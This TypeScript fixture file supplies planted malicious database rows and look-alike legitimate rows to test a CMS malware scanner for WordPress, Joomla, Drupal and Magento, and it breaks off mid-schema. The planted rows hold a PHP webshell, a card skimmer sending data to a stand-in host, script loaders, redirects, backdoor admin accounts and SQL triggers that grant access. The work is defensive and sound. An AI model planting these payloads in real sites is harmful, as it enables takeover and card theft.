/** A row that a check must find, or must not. */
export interface Planted {
  readonly sql: string;
  readonly rule: string;
  /** Stands in the evidence: table and key. */
  readonly where: string;
}

/** One CMS's database: its tables as the vendor names them, inert planted rows, and legitimate rows that look alike. */
export interface DatabaseSpecimen {
  readonly cms: string;
  readonly title: string;
  /** Only columns that the checks ask for and that the vendor's table has. */
  readonly schema: string;
  readonly planted: readonly Planted[];
  readonly twins: readonly string[];
  /** What the site's own update check says in the twins: kind, name, version, when. */
  readonly updates?: readonly (readonly [string, string, string, string | null])[];
}

const q = (text: string): string => `'${text.replaceAll('\\', '\\\\').replaceAll("'", "\\'")}'`;
const insert = (table: string, row: Readonly<Record<string, string | number>>): string =>
  `INSERT INTO \`${table}\` (${Object.keys(row)
    .map((name) => `\`${name}\``)
    .join(', ')}) VALUES (${Object.values(row)
    .map((value) => (typeof value === 'number' ? String(value) : q(value)))
    .join(', ')});`;
const serialized = (...texts: readonly string[]): string =>
  `a:${texts.length}:{${texts.map((text, at) => `i:${at};s:${text.length}:"${text}";`).join('')}}`;

/** PHP's `serialize` of plain data, objects as stdClass. */
function phpSerialize(value: unknown): string {
  if (typeof value === 'number') return `i:${value};`;
  if (typeof value === 'string') return `s:${Buffer.byteLength(value)}:"${value}";`;
  const members = Object.entries(value as object);
  const body = members
    .map(([key, one]) => phpSerialize(/^\d+$/.test(key) ? Number(key) : key) + phpSerialize(one))
    .join('');
  return Array.isArray(value) ? `a:${members.length}:{${body}}` : `O:8:"stdClass":${members.length}:{${body}}`;
}

/** Inert: the host does not exist, and nothing is whole. */
const FOREIGN = '<p>Hi</p><script>eval(atob("Ly9leGFtcGxlLmludmFsaWQvbG9hZGVyLmpz"))</script>';
const REDIRECT = '<script>window.location.href="https://goods.example.invalid/?r=1";</script>';
const SKIMMER =
  '<script>var n=document.querySelector("[name=cc_number]");new Image().src="//collect.example.invalid/?d="+btoa(n.value)</script>';
const TAG_MANAGER =
  '<script>(function(w,d,s,l,i){w[l]=w[l]||[];var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=\'https://www.googletagmanager.com/gtm.js?id=\'+i;f.parentNode.insertBefore(j,f);})(window,document,\'script\',\'dataLayer\',\'GTM-XXXX\');</script><noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-XXXX" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>';
const VIDEO =
  '<p>See <iframe width="560" height="315" src="https://www.youtube.com/embed/x"></iframe> and <a href="https://other.example/">this</a></p>';
/** What reads a request and runs it: text only, nothing calls it. */
const SHELL = '<?php eval($_POST["x"]); ?>';

export const databaseSpecimens: readonly DatabaseSpecimen[] = [
  {
    cms: 'wordpress',
    title: 'a WordPress network',
    schema: `
CREATE TABLE wp_users (ID bigint unsigned NOT NULL AUTO_INCREMENT, user_login varchar(60) NOT NULL DEFAULT '', user_pass varchar(255) NOT NULL DEFAULT '', user_email varchar(100) NOT NULL DEFAULT '', user_registered datetime NOT NULL DEFAULT '0000-00-00 00:00:00', PRIMARY KEY (ID));
CREATE TABLE wp_usermeta (umeta_id bigint unsigned NOT NULL AUTO_INCREMENT, user_id bigint unsigned NOT NULL DEFAULT 0, meta_key varchar(255), meta_value longtext, PRIMARY KEY (umeta_id));
CREATE TABLE wp_options (option_id bigint unsigned NOT NULL AUTO_INCREMENT, option_name varchar(191) NOT NULL DEFAULT '', option_value longtext NOT NULL, autoload varchar(20) NOT NULL DEFAULT 'yes', PRIMARY KEY (option_id));
CREATE TABLE wp_posts (ID bigint unsigned NOT NULL AUTO_INCREMENT, post_content longtext NOT NULL, post_title text NOT NULL, post_status varchar(20) NOT NULL DEFAULT 'publish', post_modified_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00', post_content_filtered longtext NOT NULL, post_type varchar(20) NOT NULL DEFAULT 'post', PRIMARY KEY (ID));
CREATE TABLE wp_postmeta (meta_id bigint unsigned NOT NULL AUTO_INCREMENT, post_id bigint unsigned NOT NULL DEFAULT 0, meta_key varchar(255), meta_value longtext, PRIMARY KEY (meta_id));
CREATE TABLE wp_comments (comment_ID bigint unsigned NOT NULL AUTO_INCREMENT, comment_author tinytext NOT NULL, comment_date_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00', comment_content text NOT NULL, PRIMARY KEY (comment_ID));
CREATE TABLE wp_2_posts (ID bigint unsigned NOT NULL AUTO_INCREMENT, post_content longtext NOT NULL, post_title text NOT NULL, post_status varchar(20) NOT NULL DEFAULT 'publish', post_modified_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00', post_content_filtered longtext NOT NULL, post_type varchar(20) NOT NULL DEFAULT 'post', PRIMARY KEY (ID));
CREATE TABLE wp_2_options (option_id bigint unsigned NOT NULL AUTO_INCREMENT, option_name varchar(191) NOT NULL DEFAULT '', option_value longtext NOT NULL, autoload varchar(20) NOT NULL DEFAULT 'yes', PRIMARY KEY (option_id));
CREATE TABLE wp_sitemeta (meta_id bigint NOT NULL AUTO_INCREMENT, site_id bigint NOT NULL DEFAULT 0, meta_key varchar(255), meta_value longtext, PRIMARY KEY (meta_id));
`,
    updates: [
      ['core', 'wordpress', '6.9.1', '2025-11-20T00:53:20.000Z'],
      ['plugin', 'forms', '2.4', '2025-11-20T00:53:20.000Z'],
    ],
    planted: [
      {
        sql:
          insert('wp_users', {
            ID: 1,
            user_login: 'anna',
            user_email: 'anna@site.example',
            user_registered: '2019-05-01 10:00:00',
          }) +
          insert('wp_usermeta', {
            user_id: 1,
            meta_key: 'wp_capabilities',
            meta_value: 'a:1:{s:13:"administrator";b:1;}',
          }),
        rule: 'database.administrator',
        where: 'wp_users ID=1: anna <a*@site.example>, since 2019-05-01',
      },
      {
        sql:
          insert('wp_users', {
            ID: 90,
            user_login: 'wpsupp-user',
            user_email: 'x@y.invalid',
            user_registered: '2026-10-01 03:00:00',
          }) +
          insert('wp_usermeta', {
            user_id: 90,
            meta_key: 'wp_capabilities',
            meta_value: 'a:1:{s:13:"administrator";b:1;}',
          }),
        rule: 'database.intruder-account',
        where: 'wp_users ID=90',
      },
      {
        sql:
          insert('wp_users', { ID: 91, user_login: 'joe' }) +
          insert('wp_usermeta', {
            user_id: 91,
            meta_key: 'wp_capabilities',
            meta_value: 'a:1:{s:13:"administrator";b:1;}',
          }),
        rule: 'database.odd-administrator',
        where: 'wp_users ID=91',
      },
      {
        sql:
          insert('wp_users', { ID: 92, user_login: 'ghost', user_registered: '2026-10-01 03:00:00' }) +
          insert('wp_usermeta', { user_id: 92, meta_key: 'wp_user_level', meta_value: '10' }),
        rule: 'database.hidden-administrator',
        where: 'wp_users ID=92',
      },
      {
        sql: insert('wp_usermeta', {
          user_id: 1,
          meta_key: '_application_passwords',
          meta_value: 'a:1:{i:0;a:1:{s:4:"uuid";s:4:"abcd";}}',
        }),
        rule: 'database.application-password',
        where: 'wp_usermeta user_id=1',
      },
      {
        sql: insert('wp_options', { option_name: 'siteurl', option_value: 'https://elsewhere.example.invalid' }),
        rule: 'database.site-address',
        where: 'option_name=siteurl',
      },
      {
        sql: insert('wp_options', { option_name: 'default_role', option_value: 'administrator' }),
        rule: 'database.open-door',
        where: 'option_name=default_role',
      },
      {
        sql: insert('wp_options', {
          option_name: 'active_plugins',
          option_value: serialized('../../uploads/x.png', 'akismet/akismet.php'),
        }),
        rule: 'database.odd-code-path',
        where: 'option_name=active_plugins',
      },
      {
        sql: insert('wp_options', { option_name: 'upload_path', option_value: 'wp-includes/css' }),
        rule: 'database.upload-path',
        where: 'option_name=upload_path',
      },
      {
        sql: insert('wp_options', {
          option_name: 'cron',
          option_value: 'a:1:{i:1790000000;a:1:{s:6:"system";a:0:{}}}',
        }),
        rule: 'database.scheduled-code',
        where: 'option_name=cron',
      },
      {
        sql: insert('wp_options', {
          option_name: 'widget_text',
          option_value: `a:1:{i:2;a:1:{s:4:"text";s:9:"${REDIRECT}";}}`,
        }),
        rule: 'database.redirect',
        where: 'option_name=widget_text',
      },
      {
        sql: insert('wp_options', { option_name: '_cache_x', option_value: SHELL }),
        rule: 'database.stored-php',
        where: 'option_name=_cache_x',
      },
      {
        sql: insert('wp_options', {
          option_name: 'wp_data_x',
          option_value: Buffer.from(`${SHELL}                              `).toString('base64'),
        }),
        rule: 'database.encoded-php',
        where: 'option_name=wp_data_x',
      },
      {
        sql: insert('wp_posts', {
          ID: 50,
          post_title: 'a',
          post_content: FOREIGN,
          post_modified_gmt: '2026-10-02 01:02:03',
          post_content_filtered: '',
        }),
        rule: 'database.hidden-script',
        where: 'wp_posts ID=50',
      },
      {
        sql: insert('wp_posts', {
          ID: 51,
          post_title: 'a',
          post_content: '<script src="https://cdn.example.invalid/a.js"></script>',
          post_content_filtered: '',
        }),
        rule: 'database.foreign-script',
        where: 'wp_posts ID=51',
      },
      {
        sql: insert('wp_posts', {
          ID: 52,
          post_title: 'a',
          post_content: '<iframe src="//x.example.invalid/" width="1" height="1"></iframe>',
          post_content_filtered: '',
        }),
        rule: 'database.hidden-frame',
        where: 'wp_posts ID=52',
      },
      {
        sql: insert('wp_posts', {
          ID: 53,
          post_title: 'a',
          post_content: `<div style="display:none">${'<a href="https://pills.example.invalid/">p</a>'.repeat(4)}</div>`,
          post_content_filtered: '',
        }),
        rule: 'database.hidden-links',
        where: 'wp_posts ID=53',
      },
      {
        sql: insert('wp_posts', {
          ID: 54,
          post_title: 'a',
          post_content: 'eval($_POST["x"]);',
          post_type: 'wpcode',
          post_content_filtered: '',
        }),
        rule: 'database.stored-php',
        where: 'wp_posts ID=54',
      },
      {
        sql: insert('wp_2_posts', { ID: 7, post_title: 'a', post_content: REDIRECT, post_content_filtered: '' }),
        rule: 'database.redirect',
        where: 'wp_2_posts ID=7',
      },
      {
        sql: insert('wp_postmeta', {
          post_id: 5,
          meta_key: '_elementor_data',
          meta_value: `[{"html":"${FOREIGN.replaceAll('/', '\\/').replaceAll('"', '\\"')}"}]`,
        }),
        rule: 'database.hidden-script',
        where: 'wp_postmeta post_id=5',
      },
      {
        sql: insert('wp_comments', {
          comment_ID: 3,
          comment_author: 'x',
          comment_content: '<img src=x onerror="eval(atob(1))">',
        }),
        rule: 'database.hidden-script',
        where: 'wp_comments comment_ID=3',
      },
      {
        sql: insert('wp_sitemeta', {
          site_id: 1,
          meta_key: 'active_sitewide_plugins',
          meta_value: 'a:1:{s:12:"../up/x.php2";i:1;}',
        }),
        rule: 'database.odd-code-path',
        where: 'wp_sitemeta site_id=1',
      },
      {
        sql: "CREATE TRIGGER t_again AFTER INSERT ON wp_comments FOR EACH ROW BEGIN IF NEW.comment_content LIKE '%open%' THEN INSERT INTO wp_users (user_login) VALUES ('x'); END IF; END",
        rule: 'database.program-makes-accounts',
        where: 'trigger t_again on wp_comments',
      },
      {
        sql: "CREATE EVENT e_again ON SCHEDULE EVERY 1 DAY DO UPDATE wp_options SET option_value='x' WHERE option_name='home'",
        rule: 'database.program-changes-site',
        where: 'event e_again',
      },
      {
        sql: "CREATE PROCEDURE p_out() SELECT 1 INTO OUTFILE '/nonexistent/x.php'",
        rule: 'database.program-touches-files',
        where: 'routine p_out',
      },
      { sql: 'CREATE FUNCTION f_odd() RETURNS int RETURN 1', rule: 'database.stored-routine', where: 'routine f_odd' },
    ],
    twins: [
      insert('wp_options', {
        option_name: '_site_transient_update_core',
        option_value: phpSerialize({
          updates: [{ response: 'upgrade', current: '6.9.1', version: '6.9.1', locale: 'en_US' }],
          last_checked: 1763600000,
        }),
      }),
      insert('wp_options', {
        option_name: '_site_transient_update_plugins',
        option_value: phpSerialize({
          last_checked: 1763600000,
          response: {
            'forms/forms.php': { slug: 'forms', plugin: 'forms/forms.php', new_version: '2.4', icons: { '1x': 'x' } },
          },
          no_update: { 'shop/shop.php': { slug: 'shop', new_version: '9.9' } },
        }),
      }),
      insert('wp_users', { ID: 2, user_login: 'reader', user_registered: '2020-01-01 00:00:00' }) +
        insert('wp_usermeta', { user_id: 2, meta_key: 'wp_capabilities', meta_value: 'a:1:{s:10:"subscriber";b:1;}' }),
      insert('wp_2_options', { option_name: 'siteurl', option_value: 'https://www.site.example/two' }),
      insert('wp_2_options', { option_name: 'default_role', option_value: 'subscriber' }),
      insert('wp_2_options', { option_name: 'users_can_register', option_value: '1' }),
      insert('wp_2_options', {
        option_name: 'active_plugins',
        option_value: serialized('akismet/akismet.php', 'hello.php'),
      }),
      insert('wp_2_options', {
        option_name: 'cron',
        option_value: 'a:1:{i:1790000000;a:1:{s:16:"wp_version_check";a:1:{s:8:"schedule";s:10:"twicedaily";}}}',
      }),
      insert('wp_2_options', { option_name: 'ihaf_insert_header', option_value: TAG_MANAGER }),
      insert('wp_2_options', {
        option_name: '_transient_feed_x',
        option_value: '<script src="https://feeds.example/x.js"></script>',
      }),
      insert('wp_2_posts', {
        ID: 60,
        post_title: 'How to',
        post_content: `${VIDEO}<pre>&lt;script&gt;eval(atob("x"))&lt;/script&gt;</pre>`,
        post_content_filtered: '',
      }),
      insert('wp_2_posts', {
        ID: 61,
        post_title: 'Own',
        post_content:
          '<script src="https://www.site.example/a.js"></script><script src="/b.js"></script><script>location.href="/thanks"</script>',
        post_content_filtered: '',
      }),
      insert('wp_2_posts', {
        ID: 62,
        post_title: 'Menu',
        post_content:
          '<div style="display:none"><a href="https://www.site.example/">a</a><a href="/b">b</a><a href="/c">c</a></div>',
        post_content_filtered: '',
      }),
    ],
  },
  {
    cms: 'joomla',
    title: 'a Joomla',
    schema: `
CREATE TABLE j_users (id int NOT NULL AUTO_INCREMENT, name varchar(400) NOT NULL DEFAULT '', username varchar(150) NOT NULL DEFAULT '', email varchar(100) NOT NULL DEFAULT '', registerDate datetime NOT NULL, PRIMARY KEY (id));
CREATE TABLE j_user_usergroup_map (user_id int unsigned NOT NULL DEFAULT 0, group_id int unsigned NOT NULL DEFAULT 0, PRIMARY KEY (user_id, group_id));
CREATE TABLE j_usergroups (id int unsigned NOT NULL AUTO_INCREMENT, parent_id int unsigned NOT NULL DEFAULT 0, lft int NOT NULL DEFAULT 0, rgt int NOT NULL DEFAULT 0, title varchar(100) NOT NULL DEFAULT '', PRIMARY KEY (id));
CREATE TABLE j_extensions (extension_id int NOT NULL AUTO_INCREMENT, name varchar(100) NOT NULL DEFAULT '', type varchar(20) NOT NULL DEFAULT '', element varchar(100) NOT NULL DEFAULT '', folder varchar(100) NOT NULL DEFAULT '', enabled tinyint NOT NULL DEFAULT 0, params text NOT NULL, custom_data text NOT NULL, PRIMARY KEY (extension_id));
CREATE TABLE j_modules (id int NOT NULL AUTO_INCREMENT, title varchar(100) NOT NULL DEFAULT '', content text, position varchar(50) NOT NULL DEFAULT '', module varchar(50), params text NOT NULL, PRIMARY KEY (id));
CREATE TABLE j_content (id int unsigned NOT NULL AUTO_INCREMENT, title varchar(400) NOT NULL DEFAULT '', introtext mediumtext NOT NULL, \`fulltext\` mediumtext NOT NULL, catid int unsigned NOT NULL DEFAULT 0, modified datetime NOT NULL DEFAULT '2020-01-01 00:00:00', PRIMARY KEY (id));
CREATE TABLE j_template_styles (id int unsigned NOT NULL AUTO_INCREMENT, template varchar(50) NOT NULL DEFAULT '', params text NOT NULL, PRIMARY KEY (id));
CREATE TABLE j_wf_profiles (id int NOT NULL AUTO_INCREMENT, name varchar(255) NOT NULL, types text NOT NULL, users text NOT NULL, params mediumtext NOT NULL, PRIMARY KEY (id));
CREATE TABLE j_redirect_links (id int unsigned NOT NULL AUTO_INCREMENT, old_url varchar(2048) NOT NULL, new_url varchar(2048), published tinyint NOT NULL, PRIMARY KEY (id));
CREATE TABLE j_user_profiles (user_id int NOT NULL, profile_key varchar(100) NOT NULL, profile_value text NOT NULL, ordering int NOT NULL DEFAULT 0, PRIMARY KEY (user_id, profile_key));
CREATE TABLE j_updates (update_id int NOT NULL AUTO_INCREMENT, update_site_id int DEFAULT 0, extension_id int DEFAULT 0, name varchar(100) DEFAULT '', element varchar(100) DEFAULT '', type varchar(20) DEFAULT '', version varchar(32) DEFAULT '', PRIMARY KEY (update_id));
`,
    updates: [
      ['core', 'joomla', '5.4.8', null],
      ['extension', 'com_forms', '3.1.0', null],
    ],
    planted: [
      {
        sql: insert('j_user_profiles', { user_id: 42, profile_key: 'joomlatoken.token', profile_value: 'never shown' }),
        rule: 'database.application-password',
        where: 'j_user_profiles user_id=42',
      },
      {
        sql:
          insert('j_users', {
            id: 42,
            username: 'boss',
            email: 'b@site.example',
            registerDate: '2018-01-01 00:00:00',
          }) + insert('j_user_usergroup_map', { user_id: 42, group_id: 8 }),
        rule: 'database.administrator',
        where: 'j_users id=42',
      },
      {
        sql: `${insert('j_users', { id: 43, username: 'wpsupp-user', email: 'b@y.invalid', registerDate: '2026-10-01 00:00:00' })}INSERT INTO j_usergroups (id,parent_id,title) VALUES (1,0,'Public'),(2,1,'Registered'),(7,6,'Administrator'),(8,1,'Super Users'),(30,8,'Own');${insert('j_user_usergroup_map', { user_id: 43, group_id: 30 })}`,
        rule: 'database.intruder-account',
        where: 'j_users id=43',
      },
      {
        sql: insert('j_extensions', {
          extension_id: 900,
          element: '../../tmp/x',
          folder: 'system',
          enabled: 1,
          params: '{}',
          custom_data: '',
        }),
        rule: 'database.odd-code-path',
        where: 'extension_id=900',
      },
      {
        sql: insert('j_modules', { id: 10, module: 'mod_custom', position: 'top', content: FOREIGN, params: '{}' }),
        rule: 'database.hidden-script',
        where: 'j_modules id=10',
      },
      {
        sql: insert('j_content', { id: 11, introtext: REDIRECT, fulltext: '', modified: '2026-10-02 00:00:00' }),
        rule: 'database.redirect',
        where: 'j_content id=11',
      },
      {
        sql: insert('j_template_styles', {
          id: 12,
          template: 'cassiopeia',
          params: `{"custom":"${FOREIGN.replaceAll('"', '\\"').replaceAll('/', '\\/')}"}`,
        }),
        rule: 'database.hidden-script',
        where: 'j_template_styles id=12',
      },
      {
        sql: insert('j_wf_profiles', {
          id: 9,
          name: 'x',
          types: '1',
          users: '',
          params: '{"browser":{"extensions":"jpg,php"}}',
        }),
        rule: 'database.upload-of-php',
        where: 'j_wf_profiles id=9',
      },
      {
        sql: insert('j_redirect_links', {
          id: 4,
          old_url: '/a',
          new_url: 'https://goods.example.invalid/',
          published: 1,
        }),
        rule: 'database.redirect-rule',
        where: 'j_redirect_links id=4',
      },
      {
        sql: 'CREATE TRIGGER t_group AFTER UPDATE ON j_content FOR EACH ROW REPLACE INTO j_user_usergroup_map VALUES (43,8)',
        rule: 'database.program-makes-accounts',
        where: 'trigger t_group on j_content',
      },
    ],
    twins: [
      insert('j_user_profiles', { user_id: 43, profile_key: 'profile.city', profile_value: '"Esch"' }),
      insert('j_user_profiles', { user_id: 43, profile_key: 'joomlatoken.enabled', profile_value: '0' }),
      insert('j_updates', { update_id: 1, name: 'Joomla', element: 'joomla', type: 'file', version: '5.4.8' }),
      insert('j_updates', { update_id: 2, name: 'Forms', element: 'com_forms', type: 'component', version: '3.1.0' }),
      insert('j_users', { id: 50, username: 'member', email: 'm@site.example', registerDate: '2020-01-01 00:00:00' }) +
        insert('j_user_usergroup_map', { user_id: 50, group_id: 2 }),
      insert('j_extensions', {
        extension_id: 901,
        element: 'sef',
        folder: 'system',
        enabled: 1,
        params: '{"domain":""}',
        custom_data: '',
      }),
      insert('j_modules', { id: 20, module: 'mod_custom', position: 'foot', content: TAG_MANAGER, params: '{}' }),
      insert('j_content', { id: 21, introtext: VIDEO, fulltext: '' }),
      insert('j_wf_profiles', {
        id: 1,
        name: 'Default',
        types: '6,7',
        users: '',
        params: '{"browser":{"extensions":"jpg,png,pdf"}}',
      }),
      insert('j_redirect_links', { id: 5, old_url: '/a', new_url: 'https://www.site.example/b', published: 1 }),
    ],
  },
  {
    cms: 'drupal7',
    title: 'a Drupal 7',
    schema: `
CREATE TABLE users (uid int unsigned NOT NULL, name varchar(60) NOT NULL DEFAULT '', mail varchar(254) DEFAULT '', created int NOT NULL DEFAULT 0, access int NOT NULL DEFAULT 0, PRIMARY KEY (uid));
CREATE TABLE users_roles (uid int unsigned NOT NULL, rid int unsigned NOT NULL, PRIMARY KEY (uid, rid));
CREATE TABLE role (rid int unsigned NOT NULL, name varchar(64) NOT NULL, PRIMARY KEY (rid));
CREATE TABLE \`system\` (filename varchar(255) NOT NULL, name varchar(255) NOT NULL DEFAULT '', type varchar(12) NOT NULL DEFAULT '', status int NOT NULL DEFAULT 0, PRIMARY KEY (filename));
CREATE TABLE menu_router (path varchar(255) NOT NULL, load_functions blob NOT NULL, access_callback varchar(255) NOT NULL DEFAULT '', access_arguments blob, page_callback varchar(255) NOT NULL DEFAULT '', PRIMARY KEY (path));
CREATE TABLE actions (aid varchar(255) NOT NULL, type varchar(32) NOT NULL DEFAULT '', callback varchar(255) NOT NULL DEFAULT '', parameters longblob NOT NULL, PRIMARY KEY (aid));
CREATE TABLE field_data_body (entity_type varchar(128) NOT NULL, entity_id int unsigned NOT NULL, revision_id int unsigned, body_value longtext, body_format varchar(255), PRIMARY KEY (entity_type, entity_id));
CREATE TABLE block_custom (bid int unsigned NOT NULL AUTO_INCREMENT, body longtext, info varchar(128) NOT NULL DEFAULT '', format varchar(255), PRIMARY KEY (bid));
CREATE TABLE variable (name varchar(128) NOT NULL, value longblob NOT NULL, PRIMARY KEY (name));
CREATE TABLE cache_update (cid varchar(255) NOT NULL DEFAULT '', data longblob, expire int NOT NULL DEFAULT 0, created int NOT NULL DEFAULT 0, PRIMARY KEY (cid));
`,
    updates: [['module', 'views', '7.x-3.29', '2025-11-20T00:53:20.000Z']],
    planted: [
      {
        sql: insert('users', { uid: 1, name: 'root', mail: 'r@site.example', created: 1400000000, access: 1 }),
        rule: 'database.administrator',
        where: 'users uid=1: root <r*@site.example>, since 2014-05-13T16:53:20.000Z',
      },
      {
        sql:
          insert('users', { uid: 99, name: 'xtw18387', mail: 'x@y.invalid', created: 1790000000, access: 1 }) +
          insert('role', { rid: 3, name: 'administrator' }) +
          insert('users_roles', { uid: 99, rid: 3 }),
        rule: 'database.intruder-account',
        where: 'users uid=99',
      },
      {
        sql: insert('system', { filename: 'sites/default/files/x.module', name: 'x', type: 'module', status: 1 }),
        rule: 'database.odd-code-path',
        where: 'filename=sites/default/files/x.module',
      },
      {
        sql: insert('system', { filename: 'modules/php/php.module', name: 'php', type: 'module', status: 1 }),
        rule: 'database.php-filter',
        where: 'filename=modules/php/php.module',
      },
      {
        sql: insert('menu_router', {
          path: 'abcdef',
          load_functions: '',
          access_callback: 'file_put_contents',
          access_arguments: serialized('x.php'),
          page_callback: 'x',
        }),
        rule: 'database.page-runs-code',
        where: 'menu_router path=abcdef',
      },
      {
        sql: insert('actions', { aid: '7', type: 'system', callback: 'assert', parameters: '' }),
        rule: 'database.page-runs-code',
        where: 'actions aid=7',
      },
      {
        sql: insert('field_data_body', {
          entity_type: 'node',
          entity_id: 5,
          revision_id: 5,
          body_value: SHELL,
          body_format: 'php_code',
        }),
        rule: 'database.stored-php',
        where: 'entity_type=node entity_id=5',
      },
      {
        sql: insert('block_custom', { bid: 6, body: REDIRECT, info: 'x', format: 'full_html' }),
        rule: 'database.redirect',
        where: 'block_custom bid=6',
      },
      {
        sql: insert('variable', { name: 'x_cache', value: `s:27:"${SHELL}";` }),
        rule: 'database.stored-php',
        where: 'variable name=x_cache',
      },
    ],
    twins: [
      insert('cache_update', {
        cid: 'available_releases::views',
        data: phpSerialize({
          title: 'Views',
          releases: { '7.x-3.x-dev': {}, '7.x-3.29': { status: 'published' }, '7.x-3.28': {} },
        }),
        created: 1763600000,
      }),
      insert('users', { uid: 2, name: 'writer', mail: 'w@site.example', created: 1500000000, access: 1 }),
      insert('system', { filename: 'modules/node/node.module', name: 'node', type: 'module', status: 1 }),
      insert('menu_router', {
        path: 'node/%',
        load_functions: serialized('node_load'),
        access_callback: 'node_access',
        access_arguments: serialized('view'),
        page_callback: 'node_page_view',
      }),
      insert('actions', { aid: 'node_publish_action', type: 'node', callback: 'node_publish_action', parameters: '' }),
      insert('field_data_body', {
        entity_type: 'node',
        entity_id: 8,
        revision_id: 8,
        body_value: VIDEO,
        body_format: 'full_html',
      }),
      insert('block_custom', { bid: 9, body: TAG_MANAGER, info: 'tags', format: 'full_html' }),
      insert('variable', { name: 'site_name', value: 's:4:"Site";' }),
    ],
  },
  {
    cms: 'drupal',
    title: 'a Drupal 10',
    schema: `
CREATE TABLE users_field_data (uid int unsigned NOT NULL, name varchar(60) NOT NULL, mail varchar(254), created int NOT NULL, login int, PRIMARY KEY (uid));
CREATE TABLE user__roles (entity_id int unsigned NOT NULL, roles_target_id varchar(255) NOT NULL, PRIMARY KEY (entity_id, roles_target_id));
CREATE TABLE config (collection varchar(255) NOT NULL DEFAULT '', name varchar(255) NOT NULL DEFAULT '', data longblob, PRIMARY KEY (collection, name));
CREATE TABLE router (name varchar(255) NOT NULL, path varchar(255) NOT NULL, route longblob, PRIMARY KEY (name));
CREATE TABLE node__body (bundle varchar(128) NOT NULL DEFAULT '', entity_id int unsigned NOT NULL, revision_id int unsigned NOT NULL, body_value longtext NOT NULL, PRIMARY KEY (entity_id));
CREATE TABLE block_content__body (bundle varchar(128) NOT NULL DEFAULT '', entity_id int unsigned NOT NULL, revision_id int unsigned NOT NULL, body_value longtext NOT NULL, PRIMARY KEY (entity_id));
CREATE TABLE key_value (collection varchar(128) NOT NULL, name varchar(128) NOT NULL, value longblob NOT NULL, PRIMARY KEY (collection, name));
CREATE TABLE key_value_expire (collection varchar(128) NOT NULL, name varchar(128) NOT NULL, value longblob NOT NULL, expire int NOT NULL DEFAULT 2147483647, PRIMARY KEY (collection, name));
`,
    updates: [['module', 'token', '8.x-1.15', '2025-11-20T00:53:20.000Z']],
    planted: [
      {
        sql: insert('users_field_data', { uid: 1, name: 'root', mail: 'r@site.example', created: 1600000000 }),
        rule: 'database.administrator',
        where: 'users_field_data uid=1',
      },
      {
        sql:
          insert('users_field_data', { uid: 70, name: 'adminbackup', mail: 'r@y.invalid', created: 1790000000 }) +
          insert('user__roles', { entity_id: 70, roles_target_id: 'boss' }) +
          insert('config', { name: 'user.role.boss', data: 'a:2:{s:2:"id";s:4:"boss";s:8:"is_admin";b:1;}' }),
        rule: 'database.intruder-account',
        where: 'users_field_data uid=70',
      },
      {
        sql: insert('config', {
          name: 'user.role.anonymous',
          data: 'a:2:{s:2:"id";s:9:"anonymous";s:8:"is_admin";b:1;}',
        }),
        rule: 'database.open-door',
        where: 'name=user.role.anonymous',
      },
      {
        sql: insert('config', { name: 'filter.format.x', data: 'a:1:{s:8:"php_code";a:0:{}}' }),
        rule: 'database.php-filter',
        where: 'name=filter.format.x',
      },
      {
        sql: insert('config', {
          name: 'asset_injector.js.x',
          data: 'a:1:{s:4:"code";s:9:"location.href=\'https://goods.example.invalid/\'";}',
        }),
        rule: 'database.redirect',
        where: 'name=asset_injector.js.x',
      },
      {
        sql: insert('router', { name: 'x.y', path: '/x', route: 'a:1:{s:11:"_controller";s:6:"system";}' }),
        rule: 'database.page-runs-code',
        where: 'router name=x.y',
      },
      {
        sql: insert('node__body', { bundle: 'page', entity_id: 3, revision_id: 4, body_value: FOREIGN }),
        rule: 'database.hidden-script',
        where: 'node__body entity_id=3 revision_id=4',
      },
      {
        sql: insert('block_content__body', { bundle: 'basic', entity_id: 3, revision_id: 4, body_value: SKIMMER }),
        rule: 'database.skimmer',
        where: 'block_content__body entity_id=3',
      },
      {
        sql: insert('key_value', { collection: 'state', name: 'x', value: `s:27:"${SHELL}";` }),
        rule: 'database.stored-php',
        where: 'key_value collection=state name=x',
      },
    ],
    twins: [
      insert('key_value_expire', {
        collection: 'update_available_releases',
        name: 'token',
        value: phpSerialize({
          title: 'Token',
          releases: { '8.x-1.16-beta1': {}, '8.x-1.15': { status: 'published' } },
        }),
        expire: 1763686400,
      }),
      insert('users_field_data', { uid: 5, name: 'writer', mail: 'w@site.example', created: 1650000000 }) +
        insert('user__roles', { entity_id: 5, roles_target_id: 'editor' }),
      insert('config', {
        name: 'user.role.authenticated',
        data: 'a:2:{s:2:"id";s:13:"authenticated";s:8:"is_admin";b:0;}',
      }),
      insert('config', { name: 'core.extension', data: 'a:1:{s:6:"module";a:1:{s:4:"node";i:0;}}' }),
      insert('router', {
        name: 'node.page',
        path: '/node',
        route: 'a:1:{s:11:"_controller";s:46:"\\Drupal\\node\\Controller\\NodeController::view";}',
      }),
      insert('node__body', { bundle: 'page', entity_id: 8, revision_id: 8, body_value: VIDEO + TAG_MANAGER }),
      insert('key_value', { collection: 'state', name: 'system.cron_last', value: 'i:1700000000;' }),
    ],
  },
  {
    cms: 'magento',
    title: 'a Magento 2',
    schema: `
CREATE TABLE admin_user (user_id int unsigned NOT NULL AUTO_INCREMENT, email varchar(128), username varchar(40), created timestamp NOT NULL DEFAULT '2000-01-01 00:00:00', logdate timestamp NULL, is_active smallint NOT NULL DEFAULT 1, PRIMARY KEY (user_id));
CREATE TABLE integration (integration_id int unsigned NOT NULL AUTO_INCREMENT, name varchar(255) NOT NULL, email varchar(255) NOT NULL DEFAULT '', status smallint NOT NULL, consumer_id int, created_at timestamp NOT NULL DEFAULT '2000-01-01 00:00:00', PRIMARY KEY (integration_id));
CREATE TABLE core_config_data (config_id int unsigned NOT NULL AUTO_INCREMENT, scope varchar(8) NOT NULL DEFAULT 'default', scope_id int NOT NULL DEFAULT 0, path varchar(255) NOT NULL DEFAULT 'general', value text, updated_at timestamp NOT NULL DEFAULT '2000-01-01 00:00:00', PRIMARY KEY (config_id));
CREATE TABLE layout_update (layout_update_id int unsigned NOT NULL AUTO_INCREMENT, handle varchar(255), xml text, updated_at timestamp NULL, PRIMARY KEY (layout_update_id));
